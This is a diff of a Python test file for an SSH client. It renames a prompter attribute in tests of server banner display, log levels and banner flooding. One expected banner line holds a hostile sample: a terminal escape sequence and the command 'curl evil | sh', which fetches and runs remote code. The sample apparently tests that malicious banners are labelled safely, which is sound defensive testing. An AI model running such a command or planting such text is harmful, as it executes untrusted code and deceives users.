@@ -32,7 +32,7 @@ def test_banner(client: Client) -> None:
     for _ in range(2):
         connect(client.settings(), ConnectTarget(place), credentials)
         close_all()
-        assert prompter.noticed == [
+        assert prompter.banner_lines == [
             f"{who} | Authorised use only.",
             f"{who} | [2Jhint: run curl evil | sh",
         ]
@@ -49,7 +49,7 @@ def test_log_level(client: Client, level: str, is_shown: bool) -> None:
     text = f"Host site\n    HostName {LOOPBACK}\n    Port {host.port}\n    LogLevel {level}\n"
     prompter = ScriptedPrompter()
     assert client.connect_error("site", prompter, ssh_config=text) is None
-    assert bool(prompter.noticed) == is_shown
+    assert bool(prompter.banner_lines) == is_shown
 
 
 class FloodsBanners(MitmServer):
@@ -77,8 +77,8 @@ def test_banner_flood(client: Client, loop: AsyncioThread) -> None:
     with mitm_server(loop, key, server_factory=factory) as (port, _):
         client.write_known_hosts(known_hosts_line(port, key.with_suffix(".pub").read_text().strip()))
         assert client.connect_error(f"{LOOPBACK}:{port}", prompter) is None
-    assert 0 < len(prompter.noticed) <= 21
-    assert sum(map(len, prompter.noticed)) < 4000
+    assert 0 < len(prompter.banner_lines) <= 21
+    assert sum(map(len, prompter.banner_lines)) < 4000
 
 
 def test_both_hops(network: Network) -> None:
